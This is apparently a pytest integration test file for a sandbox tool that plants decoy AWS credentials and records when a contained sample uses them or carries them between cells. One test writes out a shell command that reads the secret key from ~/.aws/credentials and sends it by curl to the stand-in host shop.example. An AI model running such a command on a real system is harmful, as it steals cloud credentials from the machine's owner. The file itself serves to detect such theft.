"""Decoys on real cells and ranges: what a contact is on record as, and what it stops."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.integration.conftest import Belljar

from belljar.cell.open import open_cell
from belljar.cell.parts import start_run
from belljar.errors import CellError
from belljar.events import Kind
from belljar.ledger.listing import read_events

pytestmark = [pytest.mark.vm, pytest.mark.slow]

ALONE = "belljar: 1\nrisk: low\ndecoys: [{id: aws, kind: aws_credentials}]\n"
RANGE = """network:
  stand_ins:
    shop: {kind: http, names: [shop.example], routes: [{path: "/{rest...}", method: [GET, POST], body: hello}]}
"""
SECRET = "$(sed -n 's/aws_secret_access_key = //p' ~/.aws/credentials)"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.mark.anyio
async def test_a_contact_stops_what_its_rule_says(belljar: Belljar, tmp_path: Path) -> None:
    """`on: {decoy_used: stop_sample}` ends the cell; the stop and its cause are on record."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(ALONE + RANGE + "on: {decoy_used: stop_sample}\n")
    command = f'curl -s -H "X-Api-Key: {SECRET}" http://shop.example/; sleep 600'
    with start_run("test", None, [], home=belljar.home) as run, pytest.raises(CellError):
        async with open_cell(policy, run=run, home=belljar.home) as cell:
            await cell.exec(["sh", "-c", command])
    events = list(read_events(run.path))
    [used] = [event for event in events if event.kind is Kind.DECOY_USED]
    [triggered] = [event for event in events if event.kind is Kind.KILL_TRIGGERED]
    assert (triggered.data["rule"], triggered.data["evidence"]) == ("decoy_used", used.seq)


@pytest.mark.anyio
async def test_a_value_of_another_sample_is_carried_over(belljar: Belljar, tmp_path: Path) -> None:
    """Seen in a cell that it was not made for, whichever of both began first."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(ALONE + "on: {breach: nothing}\n")
    with start_run("test", None, [], home=belljar.home) as run:
        async with (
            open_cell(policy, run=run, home=belljar.home) as one,
            open_cell(policy, run=run, home=belljar.home) as other,
        ):
            secrets = [
                (await cell.exec(["sh", "-c", f"echo {SECRET}"])).stdout_text.strip()
                for cell in (one, other)
            ]
            assert secrets[0] != secrets[1]
            await other.exec(["echo", secrets[0]])
            await one.exec(["echo", secrets[1]])
    carried = [event for event in read_events(run.path) if event.kind is Kind.DECOY_CARRIED]
    # Each cell's output is scanned by a thread of its own: which is first is not promised.
    assert sorted((event.cell, event.data["from_cell"]) for event in carried) == sorted(
        [(other.id, one.id), (one.id, other.id)]
    )
